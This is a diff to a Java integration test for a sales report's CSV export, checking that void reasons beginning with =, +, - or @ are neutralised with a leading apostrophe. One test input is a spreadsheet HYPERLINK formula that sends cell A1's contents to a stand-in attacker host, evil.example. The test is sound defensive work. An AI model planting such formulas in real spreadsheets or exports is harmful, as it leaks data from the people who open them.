@@ -4,6 +4,8 @@ import id.cermin.platform.BusinessDay;
 import id.cermin.testing.ItServer;
 import id.cermin.testing.WebSession;
 import id.cermin.web.Format;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
 import org.jsoup.nodes.Document;
 import org.jsoup.nodes.Element;
 import org.junit.jupiter.api.BeforeAll;
@@ -11,6 +13,8 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.math.BigDecimal;
 import java.net.http.HttpResponse;
 import java.sql.SQLException;
@@ -132,16 +136,26 @@ class SalesReportHttpIT {
         admin.get("/laporan/keluar");
         assertEquals(302, admin.post("/laporan/keluar/batal", Map.of("id", saleId, "reason", formula)).statusCode());
         String receipt = ItServer.query("SELECT receipt_no FROM sale WHERE id = '" + saleId + "'");
-        String line = admin.get("/laporan/keluar/csv").body().lines().filter(l -> l.startsWith(receipt)).findFirst()
-                .orElseThrow();
-        assertTrue(line.endsWith(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klik\"\")\""), line);
+        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")", voidReasonInCsv(receipt),
+                "the reason reaches Excel as text, an apostrophe before it");
         for (String start : new String[] {"+", "-", "@"}) {
             String other = sell("1");
             admin.post("/laporan/keluar/batal", Map.of("id", other, "reason", start + "1+1"));
             String otherReceipt = ItServer.query("SELECT receipt_no FROM sale WHERE id = '" + other + "'");
-            String otherLine = admin.get("/laporan/keluar/csv").body().lines()
-                    .filter(l -> l.startsWith(otherReceipt)).findFirst().orElseThrow();
-            assertTrue(otherLine.matches(".*;\"?'" + java.util.regex.Pattern.quote(start) + "1\\+1\"?"), otherLine);
+            assertEquals("'" + start + "1+1", voidReasonInCsv(otherReceipt));
+        }
+    }
+
+    /** The "Alasan Batal" cell of this receipt's row in today's sales CSV, read as Excel reads it. */
+    private static String voidReasonInCsv(String receipt) {
+        String body = admin.get("/laporan/keluar/csv").body().replace("\uFEFF", "");
+        CSVFormat format = CSVFormat.Builder.create(CSVFormat.EXCEL).setDelimiter(';').setHeader()
+                .setSkipHeaderRecord(true).get();
+        try (CSVParser parser = CSVParser.parse(body, format)) {
+            return parser.stream().filter(r -> r.get("No. Nota").equals(receipt)).findFirst().orElseThrow()
+                    .get("Alasan Batal");
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
         }
     }
 
